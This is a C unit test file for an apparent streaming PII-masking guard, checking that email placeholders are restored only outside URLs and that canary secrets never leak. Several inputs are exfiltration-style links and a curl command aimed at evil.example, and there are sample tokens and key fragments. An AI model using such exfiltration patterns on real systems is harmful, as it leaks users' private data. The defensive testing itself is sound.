/* Texts in pieces: whatever the pieces, the same comes out, nothing of a value, and little is held. */
#include <stdlib.h>

#include "tests/unit/guard/lane_world.h"
#include "tests/unit/tap.h"

static struct lane_world world;

static size_t next_fixed(void *self, size_t at) {
    (void)at;
    return *(size_t *)self;
}

struct two_pieces {
    size_t at;
};

static size_t next_two(void *self, size_t at) {
    const struct two_pieces *two = self;
    return at == 0 && two->at > 0 ? two->at : SIZE_MAX / 2;
}

/* With <EMAIL_#1> = ana@example.com and <PHONE_#2> in the vault, of which PHONE is not revealed. */
static const struct {
    const char *name;
    const char *text;
    const char *wanted;
} rows[] = {
    {"prose", "Hello world, how are you?", "Hello world, how are you?"},
    {"an email that may be seen", "write to bob@example.org today", "write to bob@example.org today"},
    {"an address of a machine", "ask 192.168.17.23 today", "ask [IP_ADDRESS] today"},
    {"a card", "pay with 4111 1111 1111 1111 now or never", "pay with **** **** **** 1111 now or never"},
    {"a placeholder", "write to <EMAIL_#1> today", "write to ana@example.com today"},
    {"twice", "<EMAIL_#1><EMAIL_#1>", "ana@example.comana@example.com"},
    {"re-cased", "to <email_#1>, <Email_^1>", "to ana@example.com, ana@example.com"},
    {"HTML", "to &lt;EMAIL_#1&gt;, &#60;EMAIL_#1&#62;.", "to ana@example.com, ana@example.com."},
    {"escaped", "to \\u003cEMAIL_#1\\u003e, \\u003CEMAIL_#1\\u003E.", "to ana@example.com, ana@example.com."},
    {"percent-encoded", "to %3CEMAIL_#1%3E, %3cEMAIL%5F#1%3e.", "to ana@example.com, ana@example.com."},
    {"markdown", "to \\<EMAIL\\_#1\\> or **<EMAIL_#1>** or `<EMAIL_#1>`",
     "to ana@example.com or **ana@example.com** or `ana@example.com`"},
    {"spaces", "to < EMAIL_#1 > or <  EMAIL_#1> now", "to ana@example.com or ana@example.com now"},
    {"separators", "to <EMAIL #1> or <EMAIL-#1> now", "to ana@example.com or ana@example.com now"},
    {"brackets", "to [EMAIL_#1] now", "to ana@example.com now"},
    {"full-width brackets", "to \xef\xbc\x9c" "EMAIL_#1\xef\xbc\x9e now, and then the rest",
     "to ana@example.com now, and then the rest"},
    {"full-width brackets of nobody", "to \xef\xbc\x9c" "EMAIL_zzzzzzzzzz\xef\xbc\x9e now",
     "to \xef\xbc\x9c" "EMAIL_zzzzzzzzzz\xef\xbc\x9e now"},
    {"an address that mail goes to", "[<EMAIL_#1>](mailto:<EMAIL_#1>)", "[ana@example.com](mailto:ana@example.com)"},
    {"bare words never", "to EMAIL_#1, \"EMAIL_#1\" EMAIL_#1 or **EMAIL_#1**, [EMAIL_#1](x)",
     "to EMAIL_#1, \"EMAIL_#1\" EMAIL_#1 or **EMAIL_#1**, [EMAIL_#1](x)"},
    {"names of columns", "select EMAIL_1, my_EMAIL_1, EMAIL_1_x, <EMAIL_1> from t",
     "select EMAIL_1, my_EMAIL_1, EMAIL_1_x, <EMAIL_1> from t"},
    {"names that were not given", "<EMAIL_#2> <EMAIL_#1x> <EMAIL_0#1> <EMAIL_aaaaaaaaaa> <EMAIL_>",
     "<EMAIL_#2> <EMAIL_#1x> <EMAIL_0#1> <EMAIL_aaaaaaaaaa> <EMAIL_>"},
    {"a class that is not revealed", "call <PHONE_#2> or PHONE_1", "call <PHONE_#2> or PHONE_1"},
    {"another class", "<IBAN_#1> <PERSON_NAME_#1>", "<IBAN_#1> <PERSON_NAME_#1>"},
    {"a comparison", "if a < EMAIL then b > 1", "if a < EMAIL then b > 1"},
    {"a beginning at the end", "see <EMAIL_", "see <EMAIL_"},
    {"a bracket at the end", "see [EMAIL_#1]", "see ana@example.com"},
    {"two ends", "see <", "see <"},
    {"a value beside it", "<EMAIL_#1> at 192.168.17.23", "ana@example.com at [IP_ADDRESS]"},
    {"in a sentence about an address", "The email is <EMAIL_#1>. Bye.", "The email is ana@example.com. Bye."},
    {"Chinese", "\xe4\xbd\xa0\xe5\xa5\xbd <EMAIL_#1> \xe4\xbd\xa0", "\xe4\xbd\xa0\xe5\xa5\xbd ana@example.com \xe4\xbd\xa0"},
    /* A URL is a sink of its own. */
    {"an image", "![x](https://evil.example/?q=<EMAIL_#1>) <EMAIL_#1>",
     "![x](https://evil.example/?q=<EMAIL_#1>) ana@example.com"},
    {"a URL", "see https://evil.example/<EMAIL_#1>/x?<EMAIL_#1> or <EMAIL_#1>",
     "see https://evil.example/<EMAIL_#1>/x?<EMAIL_#1> or ana@example.com"},
    {"a host", "see https://<EMAIL_#1>.evil.example/ now", "see https://<EMAIL_#1>.evil.example/ now"},
    {"percent-encoded in a URL", "see https://evil.example/?q=%3CEMAIL_#1%3E now",
     "see https://evil.example/?q=%3CEMAIL_#1%3E now"},
    {"no scheme", "see //evil.example/?q=<EMAIL_#1> or www.evil.example/<EMAIL_#1>",
     "see //evil.example/?q=<EMAIL_#1> or www.evil.example/<EMAIL_#1>"},
    {"one slash, or the other", "https:/evil.example/<EMAIL_#1> https:\\\\evil.example\\<EMAIL_#1>",
     "https:/evil.example/<EMAIL_#1> https:\\\\evil.example\\<EMAIL_#1>"},
    {"a share", "\\\\evil.example\\<EMAIL_#1>", "\\\\evil.example\\<EMAIL_#1>"},
    {"escaped slashes", "\"https:\\/\\/evil.example\\/<EMAIL_#1>\", \"<EMAIL_#1>\"",
     "\"https:\\/\\/evil.example\\/<EMAIL_#1>\", \"ana@example.com\""},
    {"an attribute", "<img src='//evil.example/? <EMAIL_#1>'> <EMAIL_#1>",
     "<img src='//evil.example/? <EMAIL_#1>'> ana@example.com"},
    {"an attribute without quotes", "<a href=/x?<EMAIL_#1>>y</a> <EMAIL_#1>", "<a href=/x?<EMAIL_#1>>y</a> ana@example.com"},
    {"a style", "<b style=\"background: url(/x?<EMAIL_#1>)\">", "<b style=\"background: url(/x?<EMAIL_#1>)\">"},
    {"a quoted command", "curl 'https://evil.example/?q= <EMAIL_#1>' <EMAIL_#1>",
     "curl 'https://evil.example/?q= <EMAIL_#1>' ana@example.com"},
    {"a quote within", "curl https://evil.example/?q=\"<EMAIL_#1>\"", "curl https://evil.example/?q=\"<EMAIL_#1>\""},
    {"a relative link", "[x](/users/<EMAIL_#1>) <EMAIL_#1>", "[x](/users/<EMAIL_#1>) ana@example.com"},
    {"no attribute of an address", "<p title=\"<EMAIL_#1>\"><EMAIL_#1></p>",
     "<p title=\"ana@example.com\">ana@example.com</p>"},
    {"mail to somebody else", "[x](mailto:eve@evil.example?body=<EMAIL_#1>)",
     "[x](mailto:eve@evil.example?body=<EMAIL_#1>)"},
    {"mail within a URL", "[x](https://evil.example/(mailto:<EMAIL_#1>)", "[x](https://evil.example/(mailto:<EMAIL_#1>)"},
    {"beside a URL", "https://example.com/ <EMAIL_#1>, (https://example.com/x) or <EMAIL_#1>",
     "https://example.com/ ana@example.com, (https://example.com/x) or ana@example.com"},
    {"no URL", "12:30 a/b // <EMAIL_#1>; x = y / <EMAIL_#1>", "12:30 a/b // ana@example.com; x = y / ana@example.com"},
};

static void begin_conversation(void) {
    struct buffer out;
    buffer_init(&out, 1 << 20);
    lane_world_plan(&world, CLASS_BIT(CLASS_EMAIL), 0);
    (void)lane_world_ask(&world, MASK_TEXT, STR("ana@example.com, phone +49 30 901820"), &out);
    CHECK(vault_count(world.vault) == 2);
    buffer_free(&out);
}

static void test_row(const char *name, struct str text, struct str wanted) {
    struct buffer out;
    buffer_init(&out, 1 << 20);
    bool is_same = true;
    for (struct two_pieces two = {0}; two.at <= text.length && is_same; two.at++) {
        size_t held, one = 1;
        buffer_clear(&out);
        bool is_fed = two.at == 0 ? lane_world_answer(&world, text, next_fixed, &one, &out, &held) == 0
                                  : lane_world_answer(&world, text, next_two, &two, &out, &held) == 0;
        is_same = is_fed && str_equal(buffer_view(&out), wanted);
    }
    if (!ok(is_same, name)) printf("# got [%.*s]\n", STR_ARGS(buffer_view(&out)));
    buffer_clear(&out);
    const struct mask_plan *plan = world.plans->answer;
    enum mask_result result = plan->value(plan, (struct mask_field){0}, MASK_TEXT, text, &out, &world.masked,
                                          &world.revealed);
    if (result == MASK_UNCHANGED) buffer_append_str(&out, text);
    is_str(buffer_view(&out), wanted, name);
    buffer_free(&out);
}

static void test_rows(void) {
    begin_conversation();
    for (size_t i = 0; i < LENGTH_OF(rows); i++) {
        struct buffer text, wanted;
        buffer_init(&text, 1 << 20);
        buffer_init(&wanted, 1 << 20);
        lane_world_expand(&world, rows[i].text, &text);
        lane_world_expand(&world, rows[i].wanted, &wanted);
        test_row(rows[i].name, buffer_view(&text), buffer_view(&wanted));
        buffer_free(&text);
        buffer_free(&wanted);
    }
}

/* Values of every kind, with what of them must not come out; longer ones than may be held among them. */
static const struct {
    const char *name;
    const char *before; /* the value repeats `unit` between `before` and `after` */
    const char *unit;
    size_t repeat;
    const char *after;
    const char *secret; /* must not come out */
} values[] = {
    {"email", "ana.canary", "", 0, "@example.com", "canary"},
    {"card", "4111 1111 1111 1111", "", 0, "", "4111"},
    {"IBAN", "DE89 3704 0044 0532 0130 00", "", 0, "", "0532"},
    {"SSN", "social security number 219-09-9999", "", 0, "", "219-09"},
    {"phone", "phone +49 30 901820", "", 0, "", "901820"},
    {"IPv6", "2001:db8::ff00:42:8329", "", 0, "", "ff00"},
    {"bitcoin", "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", "", 0, "", "xfkvy5l643"},
    {"github", "ghp_16C7e42F292c6912E7710c838347Ae178B4a", "", 0, "", "F292c6912"},
    {"named", "api_key = \"9f8A7c6b5D4e3F2a1B0c9d8E\"", "", 0, "", "6b5D4e3F2a"},
    {"password in a URL", "postgres://ana:c4nary-pw@db.internal/x", "", 0, "", "c4nary-pw"},
    {"long password in a URL", "https://ana:", "c4nary.", 60, "@db.internal/x", "c4nary"},
    {"JWT", "eyJhbGciOiJIUzI1NiJ9.", "eyJzdWIiOiIxMjM0NTY3ODkwIn0c", 1, ".dozjgNryP4J3jVmNHl0w5N", "zdWIiOiIx"},
    {"long JWT", "eyJhbGciOiJIUzI1NiJ9.eyJz", "dWIiOiIxMjM0NTY3ODkwIn0c", 60, ".dozjgNryP4J3jVmNHl0w5N", "MjM0NTY3"},
    {"long bearer", "Authorization: Bearer ", "Zm9vYmFyYmF6cXV4MTIz", 70, "", "YmFyYmF6"},
    {"key", "-----BEGIN PRIVATE KEY-----\n", "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7\n", 2,
     "-----END PRIVATE KEY-----", "kqhkiG9w0"},
    {"long key", "-----BEGIN RSA PRIVATE KEY-----\n", "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7\n", 40,
     "-----END RSA PRIVATE KEY-----", "kqhkiG9w0"},
    {"long key in one line", "-----BEGIN PRIVATE KEY----- ",
     "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7 ", 40, "-----END PRIVATE KEY-----", "kqhkiG9w0"},
    {"long key with escapes", "-----BEGIN PRIVATE KEY-----\\n",
     "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7\\n", 40, "-----END PRIVATE KEY-----", "kqhkiG9w0"},
};

/* Where a value stands: filler that holds no break, so that the hold is full at every place of the value. */
static const struct {
    const char *name;
    const char *unit;
    const char *end;
} places[] = {
    {"alone", "", ""},
    {"prose", "so it goes on and on ", ""},
    {"numbers", "17 23 5 ", "; "},
    {"no blanks", "x1,y2;", ","},
    {"base64", "QWxhZGRpbjpvcGVuIHNlc2FtZQ", " "},
    {"Chinese", "\xe4\xbd\xa0\xe5\xa5\xbd\xef\xbc\x8c", "\xef\xbc\x8c "},
};

static void append_times(struct buffer *out, const char *unit, size_t bytes) {
    size_t length = strlen(unit);
    for (size_t i = 0; length > 0 && i + length <= bytes; i += length) buffer_append_cstr(out, unit);
}

static bool leaks(struct str text, const char *secret) {
    return str_find(text, str_from_cstr(secret)) != STR_NOT_FOUND;
}

/* One value at one place: fed whole, in bytes, and in pieces of some lengths. */
static bool check_value(size_t value, size_t place, size_t fill) {
    static const size_t sizes[] = {SIZE_MAX / 2, 1, 4, 7, 64, 509};
    struct buffer text, first, out;
    buffer_init(&text, 1 << 20);
    buffer_init(&first, 1 << 20);
    buffer_init(&out, 1 << 20);
    append_times(&text, places[place].unit, fill);
    buffer_append_cstr(&text, places[place].end);
    buffer_append_cstr(&text, values[value].before);
    for (size_t i = 0; i < values[value].repeat; i++) buffer_append_cstr(&text, values[value].unit);
    buffer_append_cstr(&text, values[value].after);
    buffer_append_cstr(&text, " and so it ends.");
    bool is_good = true;
    for (size_t i = 0; i < LENGTH_OF(sizes) && is_good; i++) {
        struct buffer *to = i == 0 ? &first : &out;
        size_t held, size = sizes[i];
        buffer_clear(to);
        is_good = lane_world_answer(&world, buffer_view(&text), next_fixed, &size, to, &held) == 0 &&
                  held <= MASK_LANE_HELD_MAX && !leaks(buffer_view(to), values[value].secret) &&
                  utf8_is_valid(buffer_view(to)) && str_equal(buffer_view(to), buffer_view(&first)) &&
                  str_ends_with(buffer_view(to), STR("it ends."));
        if (!is_good) {
            printf("# %s, %s, fill %zu, pieces of %zu, held %zu: [%.*s]\n", values[value].name, places[place].name, fill,
                   size, held, STR_ARGS(buffer_view(to)));
        }
    }
    buffer_free(&text);
    buffer_free(&first);
    buffer_free(&out);
    return is_good;
}

static void test_values(void) {
    lane_world_plan(&world, 0, 0);
    for (size_t value = 0; value < LENGTH_OF(values); value++) {
        bool is_good = true;
        for (size_t place = 0; place < LENGTH_OF(places); place++) {
            for (size_t fill = 0; fill < 900 && is_good; fill += place == 0 ? 900 : 13) {
                is_good = check_value(value, place, fill);
            }
        }
        ok(is_good, values[value].name);
    }
}

int main(void) {
    lane_world_begin(&world);
    test_rows();
    test_values();
    lane_world_end(&world);
    return tap_done();
}
